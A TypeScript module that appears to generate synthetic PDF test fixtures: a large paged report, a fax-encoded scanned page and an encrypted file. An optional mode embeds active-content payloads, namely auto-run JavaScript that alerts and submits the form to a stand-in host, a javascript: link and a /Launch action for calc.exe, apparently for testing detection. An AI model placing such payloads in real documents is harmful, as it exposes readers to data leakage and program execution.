import { randomFillSync } from 'node:crypto';

/** The cross-reference of the PDF: a table in text or a stream, both at the end. */
export type CrossReferenceFormat = 'table' | 'stream';

type LargeReport = {
  pages: number;
  /** Bytes of the incompressible image on each page. */
  perPage: number;
  listing?: CrossReferenceFormat;
  /** The word before each page number. */
  word?: string;
  /** Adds scripts that run on opening, and links that cover each page. */
  isActive?: boolean;
};

/**
 * A PDF as most programs write it: all pages in one list, each page object beside its content.
 * The pages show 'word n' in Helvetica, which is not embedded in the file.
 */
export function largeReport(wanted: LargeReport): Buffer {
  const { pages, perPage, listing = 'table', word = 'Feuille', isActive = false } = wanted;
  const side = Math.floor(Math.sqrt(perPage));
  const picture = randomFillSync(Buffer.alloc(side * side));
  const numbers = Array.from({ length: pages }, (_, index) => 4 + index * 3);
  const kids = numbers.map((number) => `${number} 0 R`).join(' ');
  const objects: Buffer[] = [
    Buffer.from(`<< /Type /Catalog /Pages 2 0 R ${isActive ? opened : ''} >>`),
    Buffer.from(`<< /Type /Pages /Count ${pages} /Kids [${kids}] >>`),
    Buffer.from('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'),
  ];
  for (const [index, number] of numbers.entries()) {
    const own = `<< /Font << /F 3 0 R >> /XObject << /I ${number + 2} 0 R >> >>`;
    const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources ${own} /Contents ${number + 1} 0 R ${isActive ? links : ''} >>`;
    const drawn = `q 300 0 0 300 140 280 cm /I Do Q BT /F 24 Tf 72 740 Td (${word} ${index + 1}) Tj ET`;
    const image = `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8`;
    objects.push(Buffer.from(page), stream('', Buffer.from(drawn)), stream(image, picture));
  }
  return listed(objects, listing);
}

const script =
  '/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://elsewhere.example"\\))';
const opened = `/OpenAction << ${script} >> /AA << /WC << ${script} >> >>`;
const links = `/AA << /O << ${script} >> >> /Annots [${[
  script,
  '/S /URI /URI (javascript:alert\\(1\\))',
  '/S /URI /URI (https://elsewhere.example/)',
  '/S /Launch /F (calc.exe)',
]
  .map((action) => `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>`)
  .join(' ')}]`;

/**
 * A PDF with one image as fax machines and scanners write them, black on half of its page. Its first
 * rows repeat the white row before them (one bit each), and black and white are inverted.
 */
export function scannedReport(): Buffer {
  const side = 64;
  const image = `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0] /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns ${side} /Rows ${side} >>`;
  const rows = Buffer.concat([Buffer.alloc(side / 8, 0xff), Buffer.from([0x00, 0x10, 0x01])]);
  const objects = [
    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
    Buffer.from('<< /Type /Pages /Count 1 /Kids [3 0 R] >>'),
    Buffer.from(
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R >>',
    ),
    stream(image, rows),
    stream('', Buffer.from('q 400 0 0 400 90 300 cm /I Do Q')),
  ];
  return listed(objects, 'table');
}

/** A PDF that requires a password, which a reader detects before it reads any content. */
export function lockedReport(): Buffer {
  const secret = '<00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff>';
  const lock = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O ${secret} /U ${secret} >> /ID [<01><01>]`;
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 0 /Kids [] >>'];
  return listed(
    objects.map((text) => Buffer.from(text)),
    'table',
    lock,
  );
}

function stream(entries: string, bytes: Buffer): Buffer {
  const head = Buffer.from(`<< ${entries} /Length ${bytes.length} >>\nstream\n`);
  return Buffer.concat([head, bytes, Buffer.from('\nendstream')]);
}

function listed(objects: readonly Buffer[], listing: CrossReferenceFormat, more = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.5\n%\u00e2\u00e3\n')];
  const places: number[] = [];
  let place = parts[0]?.length ?? 0;
  const add = (part: Buffer) => {
    parts.push(part);
    place += part.length;
  };
  for (const [index, object] of objects.entries()) {
    places.push(place);
    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), object, Buffer.from('\nendobj\n')]));
  }
  const start = place;
  add(listing === 'table' ? table(places, more) : tableInAStream([...places, start]));
  add(Buffer.from(`startxref\n${start}\n%%EOF\n`));
  return Buffer.concat(parts);
}

function table(places: readonly number[], more: string): Buffer {
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = places.length + 1;
  return Buffer.from(
    `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R ${more} >>\n`,
  );
}

/** The last entry is the stream itself. */
function tableInAStream(places: readonly number[]): Buffer {
  const size = places.length + 1;
  const rows = Buffer.alloc(size * 6);
  for (const [index, place] of places.entries()) {
    rows.writeUInt8(1, (index + 1) * 6);
    rows.writeUInt32BE(place, (index + 1) * 6 + 1);
  }
  const list = stream(`/Type /XRef /Size ${size} /W [1 4 1] /Root 1 0 R`, rows);
  return Buffer.concat([Buffer.from(`${size - 1} 0 obj\n`), list, Buffer.from('\nendobj\n')]);
}
